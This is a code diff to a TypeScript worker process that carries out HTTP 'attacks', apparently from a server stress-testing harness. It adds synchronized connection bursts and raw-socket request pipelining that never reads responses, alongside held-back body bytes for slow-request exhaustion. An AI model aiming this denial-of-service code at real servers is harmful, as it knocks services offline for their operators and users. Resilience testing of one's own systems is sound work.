@@ -1,4 +1,6 @@
 import { Agent, request } from 'node:http'
+import { connect, type Socket } from 'node:net'
+import { setTimeout as pause } from 'node:timers/promises'
 
 /** One attack, as attacks.ts gives it to a process of its own. */
 export interface Attack {
@@ -12,9 +14,16 @@ export interface Attack {
   /** Bytes of the body that are never sent. */
   heldBack?: number
   connections: number
+  /** Milliseconds after which all connections send again, at one moment. */
+  everyMs?: number
+  /** Requests that each connection sends in one piece, without a body; no answer is read. */
+  pipelined?: number
 }
 
-/** Runs until it is killed: each connection sends its next request once the last was answered. */
+/**
+ * Runs until it is killed: each connection sends its next request once the last was answered, unless
+ * the attack has a beat.
+ */
 process.once('message', (attack: Attack) => {
   const agent = new Agent({ keepAlive: true, maxSockets: attack.connections })
   const body = Buffer.from(attack.body, 'base64')
@@ -22,7 +31,22 @@ process.once('message', (attack: Attack) => {
   for (let i = 0; i < attack.connections; i++) void again()
 
   async function again() {
-    for (;;) await send().catch(() => new Promise((resolve) => setTimeout(resolve, 10)))
+    let unread: Socket | undefined
+    for (;;) {
+      unread?.destroy()
+      if (attack.pipelined !== undefined) unread = pipeline(attack.pipelined)
+      else await send().catch(() => pause(10))
+      if (attack.everyMs) await pause(attack.everyMs - (performance.now() % attack.everyMs))
+    }
+  }
+
+  function pipeline(times: number) {
+    const { host, hostname, port } = new URL(attack.url)
+    const fields = Object.entries({ host, ...attack.headers }).map(([k, v]) => `${k}: ${v}\r\n`)
+    const one = `${attack.method} ${attack.path} HTTP/1.1\r\n${fields.join('')}\r\n`
+    const socket = connect(Number(port), hostname).pause()
+    socket.on('error', () => {}).write(one.repeat(times))
+    return socket
   }
 
   function send() {
